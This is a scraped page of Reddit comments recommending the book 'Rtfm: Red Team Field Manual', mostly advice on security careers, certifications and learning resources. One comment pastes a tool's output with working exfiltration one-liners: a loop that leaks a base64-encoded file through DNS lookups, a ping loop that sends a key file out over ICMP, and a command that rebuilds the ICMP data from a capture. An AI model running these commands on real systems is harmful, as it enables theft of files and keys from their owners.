Reddit Reddit reviews Rtfm: Red Team Field Manual

We found 30 Reddit comments about Rtfm: Red Team Field Manual. Here are the top ones, ranked by their Reddit score.

Computers & Technology
Computer Security & Encryption
Rtfm: Red Team Field ManualCheck price on Amazon

30 Reddit comments about Rtfm: Red Team Field Manual:

u/Leostat · 35 pointsr/netsec

Aloha everyone, I would like to introduce a little tool i've been working on : |

The program aims to give you a database of helpful commands, references, cheatsheets and tips in an indexed, easy to search format.

You can search through the database using one or more of; The command, tags, URL's, references, author, date added, or, Comments to get the information you need. At the moment it has around 500 commands in it, and it comes with an updater to allow me to push more content to it from github.

At the moment its not perfect, with the code probably being a tad into the horrendous category, but it works! As a quick example, you may be on a box and wanting to exfil some data, for some odd reason you don't have internet access, butrtfm to the rescue!

12:10:root:rtfm: ./ -R exfil
Command ID : 384
Command : for line in base64 -w 62 [file]; do host $line.[hostname]; done

Comment : exfilfile through DNS, may want to encrypt, also assuming you have a short domain
Tags : linux,bash,loop,interesting
Date Added : 2017-06-18
Added By : Innes

Command ID : 386
Command : ping -p 11010101010101010101010101010199 -c 1 -M do -s 32; for line in base64 sslfile.key | xxd -p -c 14; do line2=echo "11 $line 99" |tr -d ' '; ping -p $line2 -c 1 -M do -s 32; done; ping -p 11101010101010101010101010101099 -c 1 -M do -s 32

Comment : Exfil over icmp
Tags : linux,networking,loop,interesting
Date Added : 2017-06-18
Added By : Innes

Command ID : 496
Command : for line in $(tshark -r [pcap] -T fields -e data | uniq | grep -v "..." | sed s/.11/11/g | grep "11.99" | sed s/11// | sed s/99$// | tr -d '\n' | sed s/0101010101010101010101010101/'\n'/g |sed s/010101010101010101010101010//g); do echo $line | xxd -r -p | base64 -d;echo +++++++++++++++++++; done

Comment : Convert exfil ICMP back to files from pcap
Tags : linux,networking,loop
Date Added : 2017-06-18Added By : Innes

Throughout the program I have tried to include references to where the commands have come from, however this has not always been possible. If you spot a missing reference or nod, please let me know and I will add it in!

There are a few bugs in the code i'm aware of, and a couple of things I need to add still but let me know what you think! If you like it, awesome, if you don't then boo. Have a look, and let me know what you think with any suggestions, or if your feeling nice, submit content for the database / suggestions or code to improve the program.

Have a great day all!

u/_Skeith · 16 pointsr/AskNetsec

Hey man! I work as Security Analyst - about a year away from graduating with my Bachelors.

I suggest you pick up the CompTIA Security+ Certification, as well as start learning the basics of Networks and how they function. Learn ports and protocols, as well as how IDS/IPS/Firewalls function. This will get you an entry level role as a JrAnalyst. I suggest you use [](Professor Messers Security+ Videos) This will teach you the basics of security work, networking concepts, threats, etc.

At the same time start listening to podcasts like Paul's Security Weekly, Down the Security Rabbit Hole, etc. As well as start reading blogs on hacking to get a feel for whats done.

Get a home lab and learn a few tools like Wireshark and Nmap for basic Security Analyst work - to learn how packets work, how they are structured, and how to scan pc's for ports and services. At the same time, focus on learning about threats and vulnerabilities (which are covered in security+).

If you want to get into PenTesting then you need a wide range of knowledge. Pick up and learn a few languages (master the basics and understand what the code does and how to read/interpret it). You need to know: PHP, HTML, SQL, Python (or Ruby), and a basic language like C, or Java.

If you want to dig deeper into PenTesting then start reading:

Good way to get into the Kali Distro and learn how to run Metasploit against vulnerable VM's.

Take a look at for books, and vulnerable VM's to practice on. is also a good place with tons of videos on Ethical Hacking, Post Exploitation, Python for Security, Metasploit, etc.

Pick up some books such as

The Hacker Playbook 2: Practical Guide To Penetration Testing

Hacking: The Artof Exploitation

Black Hat Python: Python Programming for Hackers and Pentesters

Rtfm: Red Team Field Manual

The Hackers Playbook and The Art of Exploitation are great resources to get you started and take you step by step on pen testing that will allow you to alter explore the endless possibilities.

Also a good list of resources that you can learn more about security:

Getting Started in Information Security

Pentester Labs

Awesome InfoSec

Awesome Pentest

Overall experience and certification are what will get you into the door faster. Most employers will lookfor experience, but if they see you have motivation to learn and the drive to do so, then they might take you. Certifications also are big in the infosec field, as they get you past HR. And having a home lab and doing side projects in security also reflects well.

u/GunkmasterFlash · 8 pointsr/blackhat
u/photoshop4free · 6 pointsr/hacking

Alright for hacking... It's a LOTTT of stuff you'll need to learn, everything from hacking wifi, hacking websites, cracking passwords. But really all a hacker is, is someone who knows the system so well they can exploit and break it.

What kind of people are hackers/pen-testers?

Unless your job title is literately "red-teamer, or pentester" then "hackers" are usually security researchers, white hats, security analysts, hobbyists, people who tinker around. But really all hackers are, are computer nerds who love this stuff, this is what we live for. So just don't do anything stupid and don't do anything illegal.

Here is some of the big areas you'll need to learn:

Networking / Network security

Linux / Windows ( is amazing) I learned a ton by creating my own custom Debian based Linux Disro.


Cryptography / Stenography

Malware / Malware analysis

System hardening / system security

Privacy techniques (Being safe, Tor, Tails, what you share on social media)

Exploiting services, exploiting machines

Wireless attacks (WEP, WPA, WPA2)

Common vulnerabilities, and exploitsHow to use google. (Like dorking, Shodan, using online resources)

Maybe some basic python and scripting

Basic security concepts like NIPS, NIDS, SIEMS, mitigation, security policies.

Common ports and services (You can find flashcards on Quizlet) (The Complete Linux Course: Beginner to Power User)

Also check out (Hackersploit) (LiveOverflow) (Messer, Networking) (Animated full Network+ course)

150 dumped full courses for free


(my favorites)

Practice the skills you learn with CTF'S (Capture the flag)

Start researching and studying for certifications, COMPTIA, CISCO, REDHAT

The intro/easy certs are

Comptia A+ (Hardware, basic computers stuff, cables and stuff)

Comptia Network+ (Networking, network topologies, types, subnetting, vlans, dmz's)

Comptia Security+ (Malware types, threads, attacks, policies)

A bit hard and better certs

Cisco CCNA Cyber ops

Comptia CYSA+ (Security analyst stuff, the security+ but much more in depth)

Comptia Pentest+ (Pentesting tools, methodology, steps, ect.)

eLeanSecurity eJPT (junior pentesting cert)

ecouncil CEH (Good for DoD jobs, kinda outdated tho, hacking stuff)Now it gets pretty advanced

Comptia CASP+ (advanced methods, concepts, techniques regarding security)

OCSP (Oooh the cool kinds have this one, pentesting galore < msut have)

Comptia CISSP (HR and people love this one, high level cert)



My recommended pathway is Security+ > Cysa+ > Pentest+ > CEH > CASP+ > OCSP > CISSP

Here is Comptia's recommended pathway .PDF

Start to learn a programming language

Python is highly recommended for people who are looking for a first language because:

It’s easy to learn.

It’s great for scripting.

It can be used for just about anything. (4 hour nice intro to Python course)

Depending how deep you go you might need to learn C and or Assembly, both are commonly used for malware analysis, reverse engineering, binary exploitation, and exploit development. This also will require you to learn things like GCC, GDB, IDA, Hopper, and all the fun stuff. But this can be really really hard to learn, but is incredibly rewarding.

I can always recommend the Red team Field manual.Some nice cheatsheets I have printed out.

u/twystoffer · 4 pointsr/HowToHack

Given your background as a programmer, I would recommend starting with SQL exploits. You need to have at least a working knowledge in how programs and script work, and it gives you theframework for understand how to be clever with the existing code logic and how to think outside the box.

If that ends up being too easy or once you get a goodhandle on that, take a look at metasploit and the exploit database associated with that. Rather than just using the exploits, look at the code and get an idea of how the individual exploits work (which are all the same on the base level: using logic in a creative way the original programmers didn't think of or intend).

As for books, I recommend This One as a primer. It's not exactly up to date, but the theory is sound (giving you a solid foundation on how exploits are made and the thought process behind them).

I really like This One for learning metasploit and getting a further understanding of exploit scripts.

And I just love This Book in general. Once you take a look, you'll see why.

u/davexeno · 4 pointsr/cybersecurity

Starter for 10;That should start the digging of the rabbit hole.

Edit: I should elaborate a bit, I've been purposefully obtuse. What makes a good Security Engineer? Curiosity, wanting to know how things work, understanding how things tick and really get under the hood of what makes those ones and zeros truly shine. If the above two doesn't get your curious and open your eyes to the MASSIVE amount of learning you need to do, as well as the potential rewards/pitfalls/overwhelming feelings, then move along. ;-)

u/BeanBagKing · 3 pointsr/HowToHack

I would stay away from dual booting. It's just a pain in the ass. Install Windows and virtualize (VMware Player/VirtualBox) the Linux environment. If you go with VirtualBox or a pro version of VMware, you have the added benefit of being able to snapshot your environment, muck it up, and roll back to that snapshot.

I use books more for reference than to read through. With that in mind, the single most useful book I own is this:

u/sirfitchalot · 2 pointsr/homelab

The books mentioned in your other thread and by /u/dreddriver are good and I would like to add RTFM and Malware Analysis: Investigating and Analyzing Malicious Code. The latter is a little dated but still relevant as far as live memory analysis goes, which is the bees knees in modern forensics.

Make sure to ISOLATE and SANDBOX. Download Metasploitable and Ultimate Lamp.

This is a good guide--

and this

Keep up to date onCVE's

And as always, follow security guys on their blogs, Twitter, and whatever. People are super crafty and always coming up with new ideas.

u/spressman · 2 pointsr/sysadmin

I have RTFM in my bag, but more for the joke than anything. In reality, it has a lot of good stuff in it, across the board.

I usually bookmark a bunch of stuff, but end up re-googling anyway because it's faster than traversing my bookmarks.

u/roobixx · 2 pointsr/homelab

Sorry this has taken me so long to get too. Been busy.

First, understand that Kali is nothing mote than a collection of tools. Its those tools that you are actually wanting to learn.

KaliTutorials is one place you can start.

Also, there is an abundance of videos on YouTube and if you are serious about wanting to learn penetration testing/security makes sure you book mark Irongeek

Like I said earlier, by the time books are written, edited, and published, they can often be out of date.

If you do want to understand some of the basics, here are books you should look at:

Metasploit: The Penetration Tester's Guide



